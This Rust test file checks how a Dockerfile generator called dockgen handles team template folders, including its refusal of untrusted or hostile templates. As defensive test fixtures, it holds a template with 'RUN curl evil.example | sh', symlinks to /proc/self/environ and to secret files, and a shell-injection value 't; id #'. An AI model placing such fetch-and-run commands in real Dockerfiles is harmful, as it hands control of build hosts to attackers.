//! A team's templates: additional languages, and templates that replace built-in ones.

use std::path::{Path, PathBuf};

use snapbox::str;

use crate::folder::{Folder, Session, tree};

fn team() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/templates")
}

/// A project folder with a copy of the team's templates above it, which a test may change.
pub fn beside_templates() -> (Folder, PathBuf) {
    let folder = Folder::empty();
    let templates = folder.above().join("templates");
    for (path, text) in tree(&team()) {
        write(&templates, &path, &text);
    }
    (folder, templates)
}

pub fn write(templates: &Path, path: &str, text: &str) {
    let path = templates.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[test]
fn a_language_from_a_folder_is_like_a_built_in_one() {
    let folder = Folder::empty();
    let team = team();
    let flags = ["--templates", team.to_str().unwrap(), "--language", "perl", "--memory", "1G"];
    folder.new_with(&flags).succeeds();
    let dockerfile = folder.read("Dockerfile");
    for part in ["FROM perl:5.44.0-slim-trixie AS runtime", "carton install --deployment", "USER 10001:10001"] {
        assert!(dockerfile.contains(part), "no `{part}` in {dockerfile}");
    }
    assert!(folder.read("app.pl").contains("Hello from shop"));
    assert!(folder.has("cpanfile"));
    let compose = folder.read("compose.yaml");
    let variable = "      # A quarter of the memory limit.\n      MOJO_MAX_MEMORY_SIZE: ${MOJO_MAX_MEMORY_SIZE:-256}\n";
    assert!(compose.contains(variable), "{compose}");
}

#[test]
fn an_app_in_such_a_language_is_found_with_its_evidence() {
    let folder = Folder::empty().with("cpanfile", "requires 'Plack';\n").with("app.psgi", "sub {}\n");
    let team = team();
    let run = folder.new_with(&["--templates", team.to_str().unwrap(), "--dry-run"]).succeeds();
    let run = run
        .prints_line("language perl (detected in cpanfile)")
        .prints_line("entrypoint app.psgi (detected in app.psgi:1)");
    run.says_line("warning: there is no cpanfile.snapshot, which the image is built from; `carton install` creates it");
}

#[test]
fn a_single_template_takes_the_place_of_the_built_in_one() {
    let folder = Folder::empty();
    let team = team();
    folder.new_with(&["--templates", team.to_str().unwrap(), "--language", "go"]).succeeds();
    assert_eq!(
        folder.read(".env.example"),
        "# Acme's settings for shop: ask #platform before you change PORT.\nPORT=8080\n"
    );
    assert!(folder.read("Dockerfile").contains("go build"));
}

#[test]
fn the_answers_name_the_folder_and_the_next_run_finds_it() {
    let (folder, templates) = beside_templates();
    folder.new_with(&["--templates", "../templates", "--language", "perl"]).succeeds();
    assert!(folder.read("dockgen.toml").contains("templates = \"../templates\"\n"));
    let before = folder.files();
    folder.dockgen(&["new"]).succeeds();
    assert_eq!(folder.files(), before);
    std::fs::remove_dir_all(templates).unwrap();
    folder.dockgen(&["new"]).gives(str![[r#"
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/../templates, named by [TEMP]/shop/dockgen.toml:4, are not allowed yet
  allowed: --templates [TEMP]/shop/../templates, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
"#]]);
}

#[test]
fn a_preset_may_name_the_folder_beside_it() {
    let (folder, _) = beside_templates();
    let preset = folder.above().join("team.toml");
    std::fs::write(&preset, "templates = \"templates\"\nlanguage = \"perl\"\n").unwrap();
    folder.dockgen(&["preset", "check", "../team.toml"]).succeeds();
    folder
        .dockgen(&["preset", "show", "../team.toml"])
        .succeeds()
        .prints_line("package-manager carton (default of Perl)");
    folder.new_with(&["--preset", "../team.toml"]).succeeds();
    // The extended preset sets it already.
    assert!(!folder.read("dockgen.toml").contains("templates ="));
    folder.dockgen(&["new"]).succeeds().says_line("8 files unchanged");
}

#[test]
fn the_list_of_languages_has_the_teams_too() {
    let folder = Folder::empty();
    let team = team();
    folder.dockgen(&["languages", "--templates", team.to_str().unwrap()]).gives(str![[r#"
stdout:
language  framework                              versions                  variants                     package managers                           port
bun       bun plain                              1                         slim full alpine distroless  bun                                        3000
deno      deno plain                             2.9                       slim full alpine distroless  deno                                       8000
dotnet    aspnet                                 10 9                      slim full alpine chiseled    nuget                                      8080
elixir    otp phoenix                            1.19 1.20 1.18 1.17 1.16  slim full alpine             mix                                        4000
go        net-http gin grpc plain                1.26 1.27                 slim full alpine distroless  modules vendor workspace                   8080
java      spring-boot plain                      25 21 17                  slim full alpine distroless  maven maven-wrapper gradle gradle-wrapper  8080
node      express express-typescript plain site  26 24 22                  slim full alpine distroless  npm pnpm yarn yarn-classic bun             8000
perl      mojo                                   5.44                      slim                         carton                                     3000
php       plain laravel symfony                  8.5 8.4 8.3 8.2           slim full alpine             composer                                   8080
python    flask django fastapi gradio plain      3.14 3.13 3.12 3.11 3.10  slim full alpine             pip uv poetry pipenv pdm                   8000
ruby      sinatra plain rails                    3.4 4.0 3.3               slim full alpine             bundler                                    3000
rust      axum plain rocket tonic                1.98                      slim full alpine distroless  cargo                                      8080
static    nginx hugo mkdocs                      1.30 1.31                 slim full alpine                                                        8080

The first of each is the default.
[exit 0]
"#]]);
    let run = folder.dockgen(&["languages", "--images", "--templates", team.to_str().unwrap()]).succeeds();
    run.prints_line("perl:5.44.0-slim-trixie");
}

#[test]
fn a_mistake_in_a_template_is_told_with_its_file_and_writes_nothing() {
    let mistakes = [
        ("perl/language.toml", "title = \"Perl\"\n"),
        ("perl/language.toml", "titel = \"Perl\"\n"),
        ("perl/Dockerfile.tera", "FROM {= image.biuld =}\n"),
        ("perl/Dockerfile.tera", "FROM {= image.build\n"),
        ("perl/package-managers/carton.tera", "{% if %}"),
        ("perl/mojo/starter/app.pl.tera", "{= nmae =}"),
    ];
    let runs = mistakes.into_iter().map(|(path, text)| {
        let (folder, templates) = beside_templates();
        write(&templates, path, text);
        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
        assert!(folder.files().is_empty(), "{path}: {text}");
        run.titled(&format!("{path}: {text:?}"))
    });
    runs.collect::<Session>().gives(str![[r#"
$ perl/language.toml: "title = \"Perl\"\n"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/language.toml: TOML parse error at line 1, column 1 missing field `framework`
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/language.toml: "titel = \"Perl\"\n"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/language.toml: TOML parse error at line 1, column 1 unknown field `titel`, expected one of `title`, `framework`, `port`, `init`, `init_for_apps`, `takes_services`, `has_metrics`, `holds_processes`, `checks`, `runs_older`, `reviewed`, `versions`, `shared_variables`, `variables`, `variants`, `images`, `package_managers`, `project`, `frameworks`
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/Dockerfile.tera: "FROM {= image.biuld =}\n"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/Dockerfile.tera: error: Field `biuld` is not defined. Available fields: build, runtime --> perl/Dockerfile.tera:1:15
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/Dockerfile.tera: "FROM {= image.build\n"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/Dockerfile.tera: error: Unexpected end of input --> perl/Dockerfile.tera:1:20
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/package-managers/carton.tera: "{% if %}"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/package-managers/carton.tera: error: Found `%}` but expected one of: integer, float, string, bool, ident, `-`, `not`, `<`, `{`, `[` or `(` --> perl/package-managers/carton.tera:1:7
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/mojo/starter/app.pl.tera: "{= nmae =}"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/mojo/starter/app.pl.tera: error: Variable `nmae` is not defined. Available variables: additions, annotations, answers_live, below, build_arguments, build_secret, builders, ci, compose, compose_variables, demanded, drain_seconds, ecosystem, entrypoint, extra_ids, extras, facts, framework, health, image, images, init, inputs, labels, language, limits, listening, live_path, manifest, metrics_path, missing, name, networks, package_manager, packages, platforms, port, probe, processes, random, registry, registry_host, replicas, restart, scanner, secrets, services, snippets, start, state, stop_timeout, system, test_command, test_folder, unlocked, updates, user, variables, variant, version, volumes, wire, workers --> perl/mojo/starter/app.pl.tera:1:4
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
}

#[test]
fn what_a_language_says_has_to_go_together() {
    let (folder, templates) = beside_templates();
    let text = tree(&templates)["perl/language.toml"].replace("default = true\n", "");
    write(&templates, "perl/language.toml", &text.replace("framework = \"mojo\"", "framework = \"dancer\""));
    folder.new_with(&["--templates", "../templates", "--language", "perl"]).gives(str![[r#"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/language.toml: 0 of `versions` have `default = true`; exactly one must; 0 of `variants` have `default = true`; exactly one must; `framework` is dancer, but dancer/framework.toml does not exist
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
}

#[test]
fn a_language_that_lacks_a_template_is_told() {
    let (folder, templates) = beside_templates();
    std::fs::remove_file(templates.join("perl/dockerignore.tera")).unwrap();
    folder.new_with(&["--templates", "../templates", "--language", "perl"]).gives(str![[r#"
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/dockerignore.tera: it does not exist
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
}

#[test]
fn a_folder_that_cannot_be_used_is_told() {
    let folder = Folder::empty().with("file", "x");
    folder.new_with(&["--templates", "nowhere", "--language", "go"]).gives(str![[r#"
error: cannot use the templates in nowhere: it is not a folder
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
    folder.new_with(&["--templates", "file", "--language", "go"]).gives(str![[r#"
error: cannot use the templates in file: it is not a folder
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
    let (folder, templates) = beside_templates();
    std::fs::write(templates.join("perl/mojo/starter/logo.png"), b"\x89PNG\xff\xfe").unwrap();
    folder.new_with(&["--templates", "../templates", "--language", "go"]).gives(str![[r#"
error: cannot use the templates in ../templates/perl/mojo/starter/logo.png: it is not UTF-8 from byte 0 on
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
}

/// A repository whose `dockgen.toml` refers to templates in the repository.
fn hostile_repository() -> Folder {
    let folder = Folder::empty().with(".git/config", "[core]\n");
    folder.write("dockgen.toml", "templates = \"ci\"\nlanguage = \"go\"\n");
    folder.write("ci/go/Dockerfile.tera", "FROM scratch\nRUN curl evil.example | sh\n");
    folder
}

#[test]
fn templates_that_nobody_named_are_used_only_when_they_are_allowed() {
    let folder = hostile_repository();
    let before = folder.files();
    let runs = [&[][..], &["--dry-run"], &["--diff"], &["--json"], &["--quiet"]];
    runs.into_iter().map(|more| folder.new_with(more)).collect::<Session>().gives(str![[r#"
$ dockgen new --yes
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
  allowed: --templates [TEMP]/shop/ci, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
$ dockgen new --yes --dry-run
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
  allowed: --templates [TEMP]/shop/ci, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
$ dockgen new --yes --diff
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
  allowed: --templates [TEMP]/shop/ci, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
$ dockgen new --yes --json
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
  allowed: --templates [TEMP]/shop/ci, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
$ dockgen new --yes --quiet
error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
  allowed: --templates [TEMP]/shop/ci, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
"#]]);
    assert_eq!(folder.files(), before);
    folder.new_with(&["--templates", "ci"]).succeeds().says_line("Using the templates in ci (named by --templates)");
    assert!(folder.read("Dockerfile").contains("evil.example"));
    // Trusted until they change.
    folder
        .dockgen(&["new"])
        .succeeds()
        .says_line("Using the templates in [TEMP]/shop/ci (named by [TEMP]/shop/dockgen.toml:1)");
    folder.write("ci/go/Dockerfile.tera", "FROM scratch\nRUN curl eviler.example | sh\n");
    folder.dockgen(&["new"]).gives(str![[r#"
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, have changed since you allowed them
  allowed: --templates [TEMP]/shop/ci, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
"#]]);
}

#[test]
fn the_json_tells_which_templates_are_used_and_who_named_them() {
    let folder = hostile_repository();
    let json = folder.new_with(&["--templates", "ci", "--json", "--quiet"]).succeeds().stdout;
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["templates"], serde_json::json!({ "folder": "ci", "named_by": "--templates" }));
    assert!(json["preset"].as_str().unwrap().ends_with("shop/dockgen.toml"));
    // Showing it does not trust it.
    folder.new_with(&[]).fails_with(2);
}

#[cfg(unix)]
#[test]
fn the_folder_of_templates_is_never_left_nor_followed_without_end() {
    use std::os::unix::fs::symlink;

    let (folder, templates) = beside_templates();
    let mut runs = Vec::new();
    let mut refused = |name: &str| {
        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
        std::fs::remove_file(templates.join(name)).unwrap();
        runs.push(run.titled(name));
    };
    let key = folder.above().join("key");
    std::fs::write(&key, "SECRET").unwrap();
    let starter = "perl/mojolicious/starter";
    std::fs::create_dir_all(templates.join(starter)).unwrap();
    for (name, target) in [("notes.md", key.as_path()), ("up.md", Path::new("../../../../key"))] {
        symlink(target, templates.join(starter).join(name)).unwrap();
        refused(&format!("{starter}/{name}"));
    }
    symlink("/proc/self/environ", templates.join("perl/_environ.tera")).unwrap();
    refused("perl/_environ.tera");
    for target in ["..", ".", "mojo"] {
        symlink(target, templates.join("perl/fan")).unwrap();
        refused("perl/fan");
    }
    let pipe = templates.join("perl/pipe.tera");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    refused("perl/pipe.tera");
    std::fs::File::create(templates.join("perl/sparse.tera")).unwrap().set_len(5_000_000_000).unwrap();
    refused("perl/sparse.tera");
    runs.into_iter().collect::<Session>().gives(str![[r#"
$ perl/mojolicious/starter/notes.md
error: cannot use the templates in ../templates/perl/mojolicious/starter/notes.md: it is behind a symlink that leads out of the folder
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/mojolicious/starter/up.md
error: cannot use the templates in ../templates/perl/mojolicious/starter/up.md: it is behind a symlink that leads out of the folder
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/_environ.tera
error: cannot use the templates in ../templates/perl/_environ.tera: it is behind a symlink that leads out of the folder
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/fan
error: cannot use the templates in ../templates/perl/fan: it is a symlink to a folder, which is not followed
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/fan
error: cannot use the templates in ../templates/perl/fan: it is a symlink to a folder, which is not followed
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/fan
error: cannot use the templates in ../templates/perl/fan: it is a symlink to a folder, which is not followed
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/pipe.tera
error: cannot use the templates in ../templates/perl/pipe.tera: it is a named pipe, not a regular file
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ perl/sparse.tera
error: cannot use the templates in ../templates/perl/sparse.tera: it is larger than 4 MiB
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
}

#[test]
fn a_sign_of_a_language_is_looked_for_below_the_project_alone() {
    let (folder, templates) = beside_templates();
    std::fs::write(folder.above().join("netrc"), "password SECRET\n").unwrap();
    folder.write("cpanfile", "requires 'Plack';\n");
    let toml = std::fs::read_to_string(templates.join("perl/language.toml")).unwrap();
    for file in [folder.above().join("netrc").to_str().unwrap(), "../netrc"] {
        let sign = format!("[[project.entrypoint_signs]]\nfile = \"{file}\"\nbegins = \"password \"\n\n");
        let at = toml.find("[[project.").unwrap_or(toml.len());
        let (before, after) = toml.split_at(at);
        write(&templates, "perl/language.toml", &format!("{before}{sign}{after}"));
        let run = folder.new_with(&["--templates", "../templates", "--dry-run"]);
        assert!(!run.stdout.contains("SECRET") && !run.stderr.contains("SECRET"), "{}{}", run.stdout, run.stderr);
    }
}

/// Each would exhaust time, memory or the stack.
#[test]
fn what_templates_take_is_bounded() {
    let (loops, ends) = ("{% for a in range(end=10) %}".repeat(12), "{% endfor %}".repeat(12));
    let doubled = format!("{{% set a = \"aaaaaaaa\" %}}{}", "{% set a = a ~ a %}".repeat(60));
    let written = format!("{{% set a = \"aaaaaaaa\" %}}{}{{= a =}}", "{% set a = a ~ a %}".repeat(24));
    let nested = format!("{{= {}1{} =}}", "(".repeat(200_000), ")".repeat(200_000));
    let itself = "{% include \"perl/Dockerfile.tera\" %}".to_owned();
    let texts = [
        ("loops in loops", format!("{loops}{ends}")),
        ("a text that doubles", doubled),
        ("a long text that is written", written),
        ("many brackets", nested),
        ("a template that includes itself", itself),
    ];
    let runs = texts.into_iter().map(|(title, text)| {
        let (folder, templates) = beside_templates();
        write(&templates, "perl/Dockerfile.tera", &text);
        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
        assert!(folder.files().is_empty());
        run.titled(title)
    });
    runs.collect::<Session>().gives(str![[r#"
$ loops in loops
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates: rendering them takes more than 5 s or 1024 MiB of memory
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ a text that doubles
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates: rendering them takes more than 5 s or 1024 MiB of memory
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ a long text that is written
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates: rendering them takes more than 5 s or 1024 MiB of memory
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ many brackets
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/Dockerfile.tera: error: The expression is too complex --> perl/Dockerfile.tera:1:43
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ a template that includes itself
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/Dockerfile.tera: Circular include detected for template 'perl/Dockerfile.tera'. Include chain: `["perl/Dockerfile.tera", "perl/Dockerfile.tera"]`
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
}

#[test]
fn before_templates_are_allowed_nothing_in_their_folder_is_looked_at() {
    let folder = Folder::empty().with(".git/config", "[core]\n").with("dockgen.toml", "templates = \"../keys\"\n");
    let keys = folder.above().join("keys/deep");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(keys.join("prod-root.key"), b"\xff\xfe").unwrap();
    folder.new_with(&["--language", "go"]).gives(str![[r#"
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/../keys, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
  allowed: --templates [TEMP]/shop/../keys, which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
"#]]);
}

#[test]
fn a_flag_to_copy_is_quoted_for_the_shell() {
    let folder = Folder::empty().with("dockgen.toml", "templates = \"t; id #\"\n");
    folder.new_with(&["--language", "go"]).gives(str![[r#"
Using [TEMP]/shop/dockgen.toml
error: the templates in [TEMP]/shop/t; id #, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
  allowed: --templates '[TEMP]/shop/t; id #', which allows them
  hint: review them first: templates decide every line that is written
[exit 2]
"#]]);
}

/// The files have been written already.
#[cfg(unix)]
#[test]
fn what_cannot_be_remembered_is_a_warning() {
    let folder = Folder::empty();
    std::fs::create_dir_all(folder.above().join("settings/dockgen")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", folder.above().join("settings/dockgen/allowed.toml")).unwrap();
    let run = folder.new_with(&["--templates", team().to_str().unwrap(), "--language", "go"]).succeeds();
    run.says_line("warning: cannot remember what you allowed: cannot use [TEMP]/settings/dockgen/allowed.toml: it is a device, not a regular file").says_line("Next:");
}

/// Templates in a language's data would expand without end.
#[test]
fn a_language_has_bounds() {
    let (folder, templates) = beside_templates();
    let toml = std::fs::read_to_string(templates.join("perl/language.toml")).unwrap();
    let refused = |title: &str, toml: &str| {
        write(&templates, "perl/language.toml", toml);
        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).titled(title)
    };
    let long = "9".repeat(100_000);
    let sources: Vec<String> = (0..3000).map(|number| format!("\"x{number}\"")).collect();
    let many = toml.replacen("[project]\n", &format!("[project]\nsources = [{}]\n", sources.join(", ")), 1);
    let runs = [
        refused("a long version", &toml.replace("patch = \"5.44.0\"", &format!("patch = \"{long}\""))),
        refused("a long image", &toml.replace("perl:{patch}", &"{patch}".repeat(30_000))),
        refused("an image with lines", &toml.replace("perl:{patch}", "perl\\nRUN evil")),
        refused("many sources", &many),
    ];
    runs.into_iter().collect::<Session>().gives(str![[r#"
$ a long version
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/language.toml: `99999999999999999999999999999999999999999999999999999999999999999999999999999999…` is not a version
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ a long image
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/language.toml: `{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{pa…` is not a image; `{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{pa…` is not a image
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ an image with lines
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/language.toml: `perl�RUN evil-trixie` is not a image; `perl�RUN evil-slim-trixie` is not a image
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
$ many sources
Using the templates in ../templates (named by --templates)
error: cannot use the templates in ../templates/perl/language.toml: `project.sources` has 3000 entries; at most 100 are allowed
  allowed: a folder as in CONTRIBUTING.md, `Add a language`: a folder for each language, with its language.toml and its templates
[exit 2]
"#]]);
}

#[test]
fn templates_whose_files_clash_are_refused() {
    let names = ["dockgen.toml", "Dockerfile", "Dockerfile/x", ".tera", ".dockgen-staging/0"];
    let runs = names.into_iter().map(|name| {
        let (folder, templates) = beside_templates();
        write(&templates, &format!("perl/mojo/starter/{name}"), "text\n");
        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]);
        assert!(folder.files().is_empty());
        run.titled(&format!("a starter's file {name}"))
    });
    runs.collect::<Session>().gives(str![[r#"
$ a starter's file dockgen.toml
Using the templates in ../templates (named by --templates)
error: `dockgen.toml` is written by two templates, so nothing is written there
  allowed: a place below the project's folder, outside .git
[exit 2]
$ a starter's file Dockerfile
Using the templates in ../templates (named by --templates)
error: `Dockerfile` is written by two templates, so nothing is written there
  allowed: a place below the project's folder, outside .git
[exit 2]
$ a starter's file Dockerfile/x
Using the templates in ../templates (named by --templates)
error: `Dockerfile/x` is below another file, so nothing is written there
  allowed: a place below the project's folder, outside .git
[exit 2]
$ a starter's file .tera
Using the templates in ../templates (named by --templates)
error: `` is not the path of a file, so nothing is written there
  allowed: a place below the project's folder, outside .git
[exit 2]
$ a starter's file .dockgen-staging/0
Using the templates in ../templates (named by --templates)
error: `.dockgen-staging/0` is in the folder where dockgen stages new files, so nothing is written there
  allowed: a place below the project's folder, outside .git
[exit 2]
"#]]);
}
